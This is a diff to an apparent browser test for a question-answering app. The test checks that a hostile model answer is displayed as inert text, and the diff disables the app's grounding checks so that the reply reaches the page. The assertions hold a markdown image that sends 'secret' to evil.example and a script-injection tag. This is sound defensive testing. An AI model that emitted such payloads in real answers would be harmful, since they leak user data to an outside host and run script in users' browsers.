@@ -126,7 +126,8 @@ def test_upload_ask_about_it_reject_and_remove(open_page, app_url, tmp_path, tim
 
 
 def test_a_hostile_answer_stays_inert(open_page, fake_app):
-    page, watch = open_page(fake_app(HOSTILE + " [1]"))
+    # Answer checks off: the grounding check would drop this reply before it reached the page.
+    page, watch = open_page(fake_app(HOSTILE + " [1]", checks=frozenset()))
     result = ask(page, "Who led the US delegation at the Geneva talks?")
     assert "![chart](http://evil.example/leak?q=secret)" in result["answer"]  # shown as text
     assert "<script>window.pwned=1</script>" in result["answer"]
